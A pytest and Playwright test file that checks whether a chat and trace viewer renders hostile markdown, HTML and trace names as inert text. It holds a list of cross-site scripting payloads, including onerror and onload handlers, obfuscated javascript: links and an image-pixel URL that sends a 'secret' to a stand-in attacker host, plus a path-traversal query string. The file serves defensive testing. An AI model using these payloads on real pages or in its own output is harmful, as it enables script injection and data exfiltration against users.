"""Hostile texts in a browser: nothing they hold is run, asked for or followed."""

import json

import pytest
from playwright.async_api import expect

from testkit.scripted_chat import answer, calling
from testkit.service import TRACE_ID, span_id
from tests.page.browser import Visit

pytestmark = pytest.mark.asyncio(loop_scope="session")

EVIL = "https://evil.example"
_NAME = "<img src=x onerror=hacked()>](https://evil.example) {span:x} `"
_MARKDOWN = [
    f"![a picture]({EVIL}/pixel.png?q=secret)",
    f"![by reference][p]\n\n[p]: {EVIL}/pixel.png",
    f"<img src='{EVIL}/x.png' onerror='hacked()'>",
    f"<script src='{EVIL}/x.js'></script><script>hacked()</script>",
    "<svg onload=hacked()><animate onbegin=hacked() attributeName=x dur=1s></svg>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object>",
    f"<style>@import url({EVIL}/x.css); body {{ display: none }}</style>",
    f"<form action='{EVIL}'><input name=x><button>Go</button></form>",
    f"<link rel=stylesheet href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
    "[click me](javascript:hacked())",
    "[click me](&#106;avascript:hacked())",
    "[click me](java\tscript:hacked())",
    "[click me](data&#58;text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    f"[click me]({EVIL}/click)",
    "[click me](//evil.example/click)",
    "[click me](\\\\evil.example/click)",
    f"<{EVIL}/auto> and {EVIL}/bare and www.evil.example and me@evil.example",
    "[a](http://a'onmouseover='hacked()) `<img src=x onerror=hacked()>`",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hacked()>'>",
    "| <img src=x onerror=hacked()> |\n|--|\n| <a href='javascript:hacked()'>x</a> |",
    "```html\n<script>hacked()</script>\n```",
    "<div id=view class=top style='position:fixed;inset:0' onclick=hacked()>over</div>",
]
_TEXT = "\n\n".join(_MARKDOWN)


async def _armed(visit: Visit) -> None:
    """Any script that an injected text gets to run is reported."""
    await visit.page.add_init_script("window.hacked = () => console.error('HACKED');")


async def _check(visit: Visit) -> None:
    bubble = visit.messages.last
    inside = await bubble.evaluate(
        """(bubble) => {
             const all = [...bubble.querySelectorAll("*")];
             return {
               names: all.map((each) => each.localName),
               attributes: all.flatMap((each) => each.getAttributeNames()),
               links: all.filter((each) => each.href).map((each) => each.href),
             };
           }"""
    )
    loading = {"img", "svg", "script", "style", "iframe", "object", "form", "input", "link", "math"}
    assert loading.isdisjoint(inside["names"])
    assert set(inside["attributes"]) <= {"href", "start", "align", "tabindex", "dir"}
    assert inside["links"] == []


async def test_a_hostile_answer_neither_runs_nor_loads_anything(visit: Visit) -> None:
    await _armed(visit)
    visit.service.chat.scripts = [answer(*_TEXT.partition("bare"))]
    await visit.open_trace()
    await visit.ask(_TEXT)
    await visit.answered()
    await _check(visit)
    await expect(visit.messages.first).to_have_text(_TEXT.strip())
    await expect(visit.messages.last).to_contain_text("<script>hacked()</script>")
    for link in await visit.messages.last.get_by_text("click me").all():
        await link.click()
    await expect(visit.chat).to_be_visible()
    await visit.open_trace()
    await _check(visit)


@pytest.mark.slow
async def test_each_hostile_text_alone_becomes_inert(visit: Visit) -> None:
    await _armed(visit)
    await visit.open_trace()
    await visit.ask("Why?")
    await visit.answered()
    for markdown in _MARKDOWN:
        await _rendered(visit, markdown)
        await _check(visit)


@pytest.mark.slow
async def test_any_prefix_of_a_hostile_text_is_inert(visit: Visit) -> None:
    await _armed(visit)
    await visit.open_trace()
    await visit.ask("Why?")
    await visit.answered()
    await _rendered(visit, *(_TEXT[:end] for end in range(0, len(_TEXT), 3)))
    await _check(visit)


async def _rendered(visit: Visit, *texts: str) -> None:
    """Shows the texts in a bubble, one after the other."""
    await visit.page.evaluate(
        """async ([assets, texts]) => {
             const { renderMarkdown } = await import(assets + "/markdown.js");
             const bubble = document.querySelector("[role=log] .bubble");
             for (const open of [true, false]) {
               for (const text of texts) renderMarkdown(bubble, text, { open });
             }
           }""",
        [await visit.assets(), texts],
    )


@pytest.mark.slow
async def test_hostile_names_stay_text_wherever_they_are_shown(visit: Visit) -> None:
    await _armed(visit)
    records = visit.service.standin.records
    span = {"id": span_id(9), "trace_id": TRACE_ID, "parent_span_id": span_id(1), "type": _NAME}
    error = {"exception_type": _NAME, "message": _NAME, "traceback": _NAME}
    times = {"start_time": "2026-11-20T10:00:00Z", "end_time": "2026-11-20T10:00:04Z"}
    body = {"input": {_NAME: _NAME}, "output": _NAME, "model": _NAME, "error_info": error}
    records.put_spans([{**span, **times, **body, "name": _NAME, "project_name": "shop"}])
    trace = {"id": TRACE_ID, "name": _NAME, "tags": [_NAME], "thread_id": _NAME, **times}
    records.put_traces([{**trace, "project_name": "shop"}])
    visit.service.chat.scripts = [
        calling(("get_span_details", json.dumps({"span_id": span_id(9)}))),
        answer("Done."),
    ]
    await visit.open("/")
    await visit.page.locator(".what > a").first.click()
    await expect(visit.chat).to_have_attribute("data-filled", "true")
    await expect(visit.page.get_by_role("heading", name=_NAME)).to_have_text(_NAME)
    await visit.ask("Why?")
    await visit.answered()
    await visit.messages.get_by_role("link").click()
    details = visit.page.get_by_role("region", name="Span", exact=True)
    await expect(details.get_by_role("heading", level=2)).to_have_text(_NAME)
    await expect(details.locator(".json-key").first).to_have_text(_NAME)
    assert await visit.page.locator("main img").count() == 0


@pytest.mark.slow
async def test_a_hostile_address_shows_a_message_and_sends_no_other_request(visit: Visit) -> None:
    await _armed(visit)
    await visit.open("/?trace=" + "..%2f..%2f%3Cimg src=x onerror=hacked()%3E&span=%22%5D")
    await expect(visit.page.get_by_role("alert")).to_be_visible()
    visit.faults.clear()  # the 400 that was provoked
